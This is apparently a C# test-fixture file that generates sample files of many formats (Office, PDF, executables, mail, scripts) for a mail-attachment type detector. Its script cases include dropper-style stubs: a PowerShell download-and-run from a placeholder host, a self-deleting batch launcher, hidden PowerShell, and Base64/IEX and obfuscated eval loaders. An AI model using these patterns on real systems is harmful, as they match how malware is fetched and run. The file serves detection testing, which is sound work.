using System.Text;
using Noroshi.Makers.FileTypes;

namespace Noroshi.MailAnatomy.Tests.FileTypes;

/// <summary>One file of each format, made by code, with the type it must get.</summary>
internal static class TypeCases
{
    private const string WordProcessing = "application/vnd.openxmlformats-officedocument.wordprocessingml.";
    private const string Spreadsheet = "application/vnd.openxmlformats-officedocument.spreadsheetml.";
    private const string Presentation = "application/vnd.openxmlformats-officedocument.presentationml.";

    public sealed record Case(string Name, FileType Type, string Format, byte[] Bytes, string? Encryption = null);

    public static IReadOnlyList<Case> All { get; } = [.. Compound(), .. Packaged(), .. Binary(), .. Text(), .. Scripts()];

    public static Case Named(string name) => All.Single(each => each.Name == name);

    private static byte[] Utf8(string text) => Encoding.UTF8.GetBytes(text);

    private static IEnumerable<Case> Compound() =>
        [
            new("doc", FileType.Office, "doc", DocumentMaker.Doc()),
            new("doc-macros", FileType.Office, "doc", DocumentMaker.Doc(macros: true)),
            new("doc-locked", FileType.Office, "doc", DocumentMaker.Doc(encrypted: true), "office-rc4"),
            new("xls", FileType.Office, "xls", DocumentMaker.Xls()),
            new("xls-xor", FileType.Office, "xls", DocumentMaker.Xls(0), "office-xor"),
            new("xls-rc4", FileType.Office, "xls", DocumentMaker.Xls(1), "office-rc4"),
            new("xls-cryptoapi", FileType.Office, "xls", DocumentMaker.Xls(2), "office-rc4-cryptoapi"),
            new("ppt", FileType.Office, "ppt", DocumentMaker.Ppt()),
            new("ppt-locked", FileType.Office, "ppt", DocumentMaker.Ppt(encrypted: true), "office-rc4-cryptoapi"),
            new("ooxml-agile", FileType.Office, "ooxml", DocumentMaker.EncryptedPackage(4, 4), "office-agile"),
            new("ooxml-agile-v4", FileType.Office, "ooxml", DocumentMaker.EncryptedPackage(4, 4, 4), "office-agile"),
            new("ooxml-standard", FileType.Office, "ooxml", DocumentMaker.EncryptedPackage(3, 2), "office-standard"),
            new("msg", FileType.Mail, "msg", DocumentMaker.Msg()),
            new("msi", FileType.Executable, "msi", DocumentMaker.Msi()),
            new("msi-no-class", FileType.Executable, "msi", DocumentMaker.Msi(withClassId: false)),
            new("jtd", FileType.Justsystems, "jtd", DocumentMaker.Jtd()),
            new("jtd-v4", FileType.Justsystems, "jtd", DocumentMaker.Jtd(4)),
            new("jttc", FileType.Justsystems, "jttc", DocumentMaker.CompressedJtd()),
            new("jtdc", FileType.Justsystems, "jtdc", DocumentMaker.CompressedJtd("annai.jtd")),
            new("justsystems", FileType.Justsystems, "justsystems", DocumentMaker.OtherJustsystems()),
            new("ichitaro4", FileType.Justsystems, "jsw", DocumentMaker.OldIchitaro(4)),
            new("ichitaro5", FileType.Justsystems, "jaw", DocumentMaker.OldIchitaro(5)),
            new("ichitaro6", FileType.Justsystems, "jbw", DocumentMaker.OldIchitaro(6)),
            new("ole", FileType.Other, "ole", new CompoundMaker().Stream("Contents", new byte[100]).Build()),
        ];

    private static IEnumerable<Case> Packaged() =>
        [
            new("docx", FileType.Office, "docx", DocumentMaker.OpenXml("word", "document.xml", WordProcessing + "document.main+xml")),
            new(
                "docm",
                FileType.Office,
                "docm",
                DocumentMaker.OpenXml("word", "document.xml", "application/vnd.ms-word.document.macroEnabled.main+xml", macros: true)
            ),
            new("dotx", FileType.Office, "dotx", DocumentMaker.OpenXml("word", "document.xml", WordProcessing + "template.main+xml")),
            new(
                "dotm",
                FileType.Office,
                "dotm",
                DocumentMaker.OpenXml(
                    "word",
                    "document.xml",
                    "application/vnd.ms-word.template.macroEnabledTemplate.main+xml",
                    macros: true
                )
            ),
            new("xlsx", FileType.Office, "xlsx", DocumentMaker.OpenXml("xl", "workbook.xml", Spreadsheet + "sheet.main+xml")),
            new(
                "xlsm",
                FileType.Office,
                "xlsm",
                DocumentMaker.OpenXml("xl", "workbook.xml", "application/vnd.ms-excel.sheet.macroEnabled.main+xml", macros: true)
            ),
            new(
                "xlsb",
                FileType.Office,
                "xlsb",
                DocumentMaker.OpenXml("xl", "workbook.bin", "application/vnd.ms-excel.sheet.binary.macroEnabled.main")
            ),
            new("xltx", FileType.Office, "xltx", DocumentMaker.OpenXml("xl", "workbook.xml", Spreadsheet + "template.main+xml")),
            new("pptx", FileType.Office, "pptx", DocumentMaker.OpenXml("ppt", "presentation.xml", Presentation + "presentation.main+xml")),
            new(
                "pptm",
                FileType.Office,
                "pptm",
                DocumentMaker.OpenXml(
                    "ppt",
                    "presentation.xml",
                    "application/vnd.ms-powerpoint.presentation.macroEnabled.main+xml",
                    macros: true
                )
            ),
            new("ppsx", FileType.Office, "ppsx", DocumentMaker.OpenXml("ppt", "presentation.xml", Presentation + "slideshow.main+xml")),
            new(
                "vsdx",
                FileType.Office,
                "vsdx",
                DocumentMaker.OpenXml("visio", "document.xml", "application/vnd.ms-visio.drawing.main+xml")
            ),
            new(
                "xps",
                FileType.Other,
                "xps",
                DocumentMaker.OpenXml("Documents/1", "FixedDocument.fdoc", "application/vnd.ms-package.xps-fixeddocument+xml")
            ),
            new(
                "docx-no-types",
                FileType.Office,
                "docx",
                DocumentMaker.Zip(("[Content_Types].xml", "<Types/>"), ("word/document.xml", "<x/>"))
            ),
            new("odt", FileType.Office, "odt", DocumentMaker.OpenDocument("application/vnd.oasis.opendocument.text")),
            new("ods", FileType.Office, "ods", DocumentMaker.OpenDocument("application/vnd.oasis.opendocument.spreadsheet")),
            new(
                "odp-locked",
                FileType.Office,
                "odp",
                DocumentMaker.OpenDocument("application/vnd.oasis.opendocument.presentation", encrypted: true),
                "opendocument"
            ),
            new("epub", FileType.Other, "epub", DocumentMaker.OpenDocument("application/epub+zip")),
            new(
                "jar",
                FileType.Executable,
                "jar",
                DocumentMaker.Zip(("META-INF/MANIFEST.MF", "Manifest-Version: 1.0\n"), ("Main.class", "x"))
            ),
            new("apk", FileType.Executable, "apk", DocumentMaker.Zip(("AndroidManifest.xml", "x"), ("classes.dex", "x"))),
        ];

    private static IEnumerable<Case> Binary() =>
        [
            new("rtf", FileType.Office, "rtf", DocumentMaker.Rtf()),
            new("rtf-short", FileType.Office, "rtf", DocumentMaker.Rtf(" {\\rt{\\object")),
            new("one", FileType.Office, "one", DocumentMaker.OneNote()),
            new("mdb", FileType.Office, "mdb", [0, 1, 0, 0, .. "Standard Jet DB\0"u8, .. new byte[100]]),
            new("pdf", FileType.Pdf, "pdf", DocumentMaker.Pdf()),
            new("pdf-late", FileType.Pdf, "pdf", DocumentMaker.Pdf(before: new string('\n', 500) + "junk\n")),
            new("pdf-locked", FileType.Pdf, "pdf", DocumentMaker.Pdf(encrypted: true), "pdf"),
            new("pe32", FileType.Executable, "pe32", ProgramMaker.Pe()),
            new("pe32+", FileType.Executable, "pe32+", ProgramMaker.Pe(wide: true)),
            new("dll", FileType.Executable, "pe32", ProgramMaker.Pe(dll: true)),
            new("dos", FileType.Executable, "dos", ProgramMaker.Dos()),
            new("elf", FileType.Executable, "elf", ProgramMaker.Elf()),
            new("mach-o", FileType.Executable, "mach-o", ProgramMaker.MachO()),
            new("class", FileType.Executable, "class", [0xCA, 0xFE, 0xBA, 0xBE, 0, 0, 0, 0x34, 0, 10, 10, 0, 0, 0]),
            new("lnk", FileType.Shortcut, "lnk", ProgramMaker.Lnk()),
            new("png", FileType.Image, "png", ProgramMaker.Png()),
            new("jpg", FileType.Image, "jpg", ProgramMaker.Jpg()),
            new("gif", FileType.Image, "gif", ProgramMaker.Gif()),
            new("bmp", FileType.Image, "bmp", ProgramMaker.Bmp()),
            new("tif", FileType.Image, "tif", ProgramMaker.Tif()),
            new("ico", FileType.Image, "ico", ProgramMaker.Ico()),
            new("webp", FileType.Image, "webp", ProgramMaker.Riff("WEBP")),
            new("heic", FileType.Image, "heic", ProgramMaker.Ftyp("heic")),
            new("emf", FileType.Image, "emf", ProgramMaker.Emf()),
            new("wmf", FileType.Image, "wmf", [0xD7, 0xCD, 0xC6, 0x9A, .. new byte[40]]),
            new("psd", FileType.Image, "psd", [.. "8BPS"u8, 0, 1, .. new byte[40]]),
            new("wav", FileType.Other, "wav", ProgramMaker.Riff("WAVE")),
            new("avi", FileType.Other, "avi", ProgramMaker.Riff("AVI ")),
            new("mp4", FileType.Other, "mp4", ProgramMaker.Ftyp("isom")),
            new("mp3", FileType.Other, "mp3", [.. "ID3"u8, 3, 0, 0, 0, 0, 0, 10, .. new byte[40]]),
            new("ttf", FileType.Other, "ttf", [0, 1, 0, 0, 0, 12, 0, 0x80, 0, 3, 0, 0x40, .. new byte[40]]),
            new("chm", FileType.Other, "chm", [.. "ITSF"u8, 3, 0, 0, 0, 0x60, 0, 0, 0, .. new byte[80]]),
            new(
                "p7s",
                FileType.Other,
                "p7s",
                [0x30, 0x82, 1, 0, 0x06, 0x09, 0x2A, 0x86, 0x48, 0x86, 0xF7, 0x0D, 0x01, 0x07, 0x02, .. new byte[64]]
            ),
            new(
                "p7m",
                FileType.Other,
                "p7m",
                [0x30, 0x80, 0x06, 0x09, 0x2A, 0x86, 0x48, 0x86, 0xF7, 0x0D, 0x01, 0x07, 0x03, .. new byte[64]],
                "cms"
            ),
            new("cert", FileType.Other, "cert", [0x30, 0x82, 2, 0, 0x30, 0x82, 1, 0x80, 0xA0, 3, 2, 1, 2, .. new byte[64]]),
        ];

    private static IEnumerable<Case> Text() =>
        [
            new("pgp", FileType.Other, "pgp", Utf8("-----BEGIN PGP MESSAGE-----\n\nhQEMA0\n-----END PGP MESSAGE-----\n"), "openpgp"),
            new("pem", FileType.Other, "cert", Utf8("-----BEGIN CERTIFICATE-----\nMIIB\n-----END CERTIFICATE-----\n")),
            new("vcf", FileType.Other, "vcf", Utf8("BEGIN:VCARD\r\nVERSION:3.0\r\nFN:山田\r\nEND:VCARD\r\n")),
            new("ics", FileType.Other, "ics", Utf8("BEGIN:VCALENDAR\r\nVERSION:2.0\r\nEND:VCALENDAR\r\n")),
            new(
                "reg",
                FileType.Script,
                "reg",
                [0xFF, 0xFE, .. Encoding.Unicode.GetBytes("Windows Registry Editor Version 5.00\r\n\r\n[HKEY_CURRENT_USER\\X]\r\n")]
            ),
            new("iqy", FileType.Office, "iqy", Utf8("WEB\r\n1\r\nhttp://query.example/x\r\n")),
            new("slk", FileType.Office, "slk", Utf8("ID;PWXL;N;E\r\nC;Y1;X1;K\"a\"\r\nE\r\n")),
            new(
                "url",
                FileType.Shortcut,
                "url",
                Utf8("[{000214A0-0000-0000-C000-000000000046}]\r\nProp3=19,2\r\n[InternetShortcut]\r\nURL=http://example.invalid/\r\n")
            ),
            new("desktop", FileType.Shortcut, "desktop", Utf8("#!/usr/bin/env xdg-open\n[Desktop Entry]\nType=Application\nExec=true\n")),
            new(
                "webloc",
                FileType.Shortcut,
                "webloc",
                Utf8(
                    "<?xml version=\"1.0\"?>\n<!DOCTYPE plist PUBLIC \"-//Apple//DTD PLIST 1.0//EN\" \"http://www.apple.com/DTDs/PropertyList-1.0.dtd\">\n<plist version=\"1.0\"><dict><key>URL</key><string>http://example.invalid/</string></dict></plist>\n"
                )
            ),
            new(
                "library-ms",
                FileType.Shortcut,
                "library-ms",
                Utf8(
                    "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<libraryDescription xmlns=\"http://schemas.microsoft.com/windows/2009/library\"></libraryDescription>"
                )
            ),
            new(
                "search-ms",
                FileType.Shortcut,
                "search-ms",
                Utf8("<?xml version=\"1.0\"?>\n<persistedQuery version=\"1.0\"></persistedQuery>")
            ),
            new(
                "settingcontent-ms",
                FileType.Shortcut,
                "settingcontent-ms",
                Utf8("<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<PCSettings><SearchableContent/></PCSettings>")
            ),
            new("html", FileType.Html, "html", Utf8("<!DOCTYPE html>\n<html><body>こんにちは</body></html>")),
            new("html-comment", FileType.Html, "html", Utf8("\r\n\r\n  <!-- saved -->\n<!-- x --><HTML><head></head></HTML>")),
            new("html-bom", FileType.Html, "html", [0xEF, 0xBB, 0xBF, .. "  <script>var a=1</script>"u8]),
            new("html-utf16", FileType.Html, "html", [0xFF, 0xFE, .. Encoding.Unicode.GetBytes("<html><body>日本語</body></html>")]),
            new(
                "html-utf16-bare",
                FileType.Html,
                "html",
                Encoding.BigEndianUnicode.GetBytes("<html><head><title>abcdefgh</title></head></html>")
            ),
            new(
                "xhtml",
                FileType.Html,
                "html",
                Utf8(
                    "<?xml version=\"1.0\"?>\n<!DOCTYPE html PUBLIC \"-//W3C//DTD XHTML 1.0 Strict//EN\" \"x\">\n<html xmlns=\"http://www.w3.org/1999/xhtml\"></html>"
                )
            ),
            new(
                "svg",
                FileType.Html,
                "svg",
                Utf8("<?xml version=\"1.0\"?>\n<!-- c -->\n<svg xmlns=\"http://www.w3.org/2000/svg\"><script>1</script></svg>")
            ),
            new(
                "mhtml",
                FileType.Html,
                "mhtml",
                Utf8(
                    "From: <Saved by Blink>\r\nSnapshot-Content-Location: http://example.invalid/\r\nSubject: x\r\nMIME-Version: 1.0\r\nContent-Type: multipart/related;\r\n\ttype=\"text/html\"; boundary=\"b\"\r\n\r\n--b\r\n"
                )
            ),
            new(
                "mhtml-word",
                FileType.Html,
                "mhtml",
                Utf8(
                    "MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary=\"----=_NextPart\"\r\n\r\n------=_NextPart\r\nContent-Location: file:///C:/a.htm\r\n"
                )
            ),
            new(
                "eml",
                FileType.Mail,
                "eml",
                Utf8(
                    "Received: from a (b [192.0.2.1])\r\n\tby c; Thu, 17 Oct 2013 09:00:00 +0900\r\nFrom: a@example.jp\r\nSubject: test\r\n\r\nhello\r\n"
                )
            ),
            new(
                "eml-preamble",
                FileType.Mail,
                "eml",
                Utf8(
                    "\r\nMicrosoft Mail Internet Headers Version 2.0\r\nReceived: from a by b\r\nMessage-ID: <1@example.jp>\r\n\r\nhello\r\n"
                )
            ),
            new(
                "mbox",
                FileType.Mail,
                "mbox",
                Utf8(
                    "From a@example.jp Thu Oct 17 09:00:00 2013\nFrom: a@example.jp\nSubject: x\n\nhello\n\nFrom b@example.jp Thu Oct 17 09:01:00 2013\nFrom: b@example.jp\n\nx\n"
                )
            ),
            new("xml", FileType.Other, "xml", Utf8("<?xml version=\"1.0\"?><note><to>a</to></note>")),
            new(
                "json",
                FileType.Other,
                "json",
                Utf8("{\"function\":\"var x = eval(1)\",\"list\":[1,2,3],\"note\":\"new ActiveXObject('WScript.Shell')\"}")
            ),
            new(
                "csv",
                FileType.Other,
                "csv",
                Utf8("日付,件名,\"備考,一\"\r\n2013-10-17,var x,eval(1);\r\n2013-10-18,function(),document.write\r\n")
            ),
            new(
                "text-ja",
                FileType.Other,
                "text",
                Utf8("お世話になっております。\r\n添付の資料をご確認ください。パスワードは別途お送りします。\r\n")
            ),
            new("text-jis", FileType.Other, "text", [0x1B, 0x24, 0x42, 0x24, 0x22, 0x24, 0x24, 0x24, 0x26, 0x1B, 0x28, 0x42, 0x0D, 0x0A]),
            new("text-sjis", FileType.Other, "text", [0x82, 0xA0, 0x82, 0xA2, 0x95, 0x5C, 0x8E, 0xA6, 0x0D, 0x0A]),
        ];

    private static IEnumerable<Case> Scripts() =>
        [
            new("js", FileType.Script, "js", Utf8("var sh = new ActiveXObject(\"WScript.Shell\");\r\nsh.Run(\"calc.exe\", 0, false);\r\n")),
            new(
                "js-obfuscated",
                FileType.Script,
                "js",
                Utf8(
                    "/* 2f81 */var _0x1=['a','b'];(function(a,b){var c=function(d){while(--d){a['push'](a['shift']());}};c(++b);}(_0x1,0x9));eval(String.fromCharCode(97,98));"
                )
            ),
            new(
                "js-page",
                FileType.Script,
                "js",
                Utf8(
                    "// menu of the site\n(function () {\n  'use strict';\n  var items = document.querySelectorAll('li');\n  for (var i = 0; i < items.length; i++) {\n    items[i].addEventListener('click', function () { this.className = 'open'; });\n  }\n})();\n"
                )
            ),
            new(
                "js-packed",
                FileType.Script,
                "js",
                Utf8(
                    "/*!\n * x v1.0 and its licence in plain words\n */\n!function(e,t){"
                        + string.Concat(Enumerable.Repeat("var a=e.length;for(;a--;)t.push(e[a]);", 400))
                        + "}(this,[]);"
                )
            ),
            new(
                "py-docstring",
                FileType.Script,
                "py",
                Utf8(
                    "# -*- coding: utf-8 -*-\n\"\"\"Does this and that.\n\nIt is explained here at some length in plain words.\n\"\"\"\nimport os\nimport sys\n\nclass A(object):\n    def __init__(self):\n        self.a = os.getcwd()\n"
                )
            ),
            new("jse", FileType.Script, "jse", Utf8("#@~^XAAAAA==-mD~W8N,'~xnA,)mDk-npr8LmD`JUm.r2YR?t+sVr#prAAAA==^#~@")),
            new(
                "vbs",
                FileType.Script,
                "vbs",
                Utf8("On Error Resume Next\r\nDim sh\r\nSet sh = CreateObject(\"WScript.Shell\")\r\nsh.Run \"calc.exe\", 0\r\n")
            ),
            new(
                "vbs-long",
                FileType.Script,
                "vbs",
                Utf8(
                    "' 2013\r\nOption Explicit\r\nFunction Decode(s)\r\n  Dim i, r\r\n  For i = 1 To Len(s) Step 2\r\n    r = r & Chr(CInt(\"&H\" & Mid(s, i, 2)))\r\n  Next\r\n  Decode = r\r\nEnd Function\r\nExecuteGlobal Decode(\"4D7367\")\r\n"
                )
            ),
            new(
                "hta",
                FileType.Script,
                "hta",
                Utf8("<html><head><HTA:APPLICATION ID=\"a\" WINDOWSTATE=\"minimize\"></head><body><script>1</script></body></html>")
            ),
            new(
                "hta-plain",
                FileType.Script,
                "hta",
                Utf8("<script language=\"VBScript\">CreateObject(\"WScript.Shell\").Run \"calc\"</script>")
            ),
            new(
                "wsf",
                FileType.Script,
                "wsf",
                Utf8("<?xml version=\"1.0\"?>\n<job id=\"a\"><script language=\"JScript\">WScript.Echo(1);</script></job>")
            ),
            new(
                "sct",
                FileType.Script,
                "sct",
                Utf8("<?XML version=\"1.0\"?>\n<scriptlet><registration progid=\"x\"><script>1</script></registration></scriptlet>")
            ),
            new(
                "bat",
                FileType.Script,
                "bat",
                Utf8("@echo off\r\nset T=%TEMP%\\a.exe\r\ncopy /y a.dat %T% >nul\r\nstart \"\" %T%\r\ndel /q %0\r\n")
            ),
            new("bat-line", FileType.Script, "bat", Utf8("start /min powershell -nop -w hidden -c \"calc\"\r\nexit /b\r\n")),
            new(
                "ps1",
                FileType.Script,
                "ps1",
                Utf8(
                    "$c = New-Object System.Net.WebClient\r\n$p = \"$env:TEMP\\a.exe\"\r\n$c.DownloadFile('http://example.invalid/a', $p)\r\nStart-Process $p\r\n"
                )
            ),
            new(
                "ps1-utf16",
                FileType.Script,
                "ps1",
                [
                    0xFF,
                    0xFE,
                    .. Encoding.Unicode.GetBytes(
                        "$a = [Convert]::FromBase64String('QQ==')\r\nIEX ([Text.Encoding]::UTF8.GetString($a))\r\n"
                    ),
                ]
            ),
            new("sh", FileType.Script, "sh", Utf8("#!/bin/sh\nset -e\necho hello\n")),
            new(
                "py",
                FileType.Script,
                "py",
                Utf8(
                    "import os\nimport sys\n\ndef main():\n    for name in os.listdir('.'):\n        print(name)\n\nif __name__ == '__main__':\n    main()\n"
                )
            ),
            new("py-mark", FileType.Script, "py", Utf8("#!/usr/bin/env python3\nprint(1)\n")),
            new("php", FileType.Script, "php", Utf8("<?php echo 1; ?>")),
        ];
}
